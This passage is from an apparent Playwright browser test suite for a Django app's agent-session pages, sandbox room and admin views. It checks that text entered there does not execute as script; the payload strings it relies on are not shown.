    page.get_by_label("Speak").press("Enter")
    expect(room.locator("#caption")).to_have_text(spoken)
    expect(page.locator("#timeline-items .event-speak").last).to_contain_text("caption")
    page.get_by_label("Add context").fill(long_hostile("note"))
    page.get_by_role("button", name="Add context").click()
    expect(room.locator("#context-notes li").last).to_have_text(long_hostile("note"))
    page.get_by_role("button", name=FORMULAS[1], exact=True).click()  # a quick reply
    expect(page.get_by_label("Speak")).to_have_value(FORMULAS[1])
    page.wait_for_timeout(2500)  # a timeline poll swaps the fragment in again
    assert page.evaluate(NO_XSS)
    frame = page.frame(url=re.compile(r"/sandbox/embed/"))
    assert frame is not None and frame.evaluate(NO_XSS)

    # The sandbox room on its own.
    room_url = AgentSession.objects.get(pk=live.pk).room_url
    visit(room_url)
    session_services.session_speak(actor=h.member, session=live, text=long_hostile("alone"))
    expect(page.locator("#caption")).to_have_text(long_hostile("alone"))
    assert page.evaluate(NO_XSS)

    # Admin pages, as staff.
    staff_context = browser.new_context(bypass_csp=True)
    _login(staff_context, live_server, h.staff)
    page = staff_context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: errors.append(str(error)))
    for path in [
        reverse("admin:agents_agent_change", args=[h.ready.pk]),
        reverse("admin:agent_sessions_agentsession_change", args=[live.pk]),
        reverse("admin:portal_organization_change", args=[h.org.pk]),
        reverse("admin:activity_auditevent_changelist"),
        reverse("admin:portal_user_changelist") + "?q=" + quote(XSS),
    ]:
        visit(live_server.url + path)
    assert dialogs == []
    assert errors == []
    context.close()
    staff_context.close()
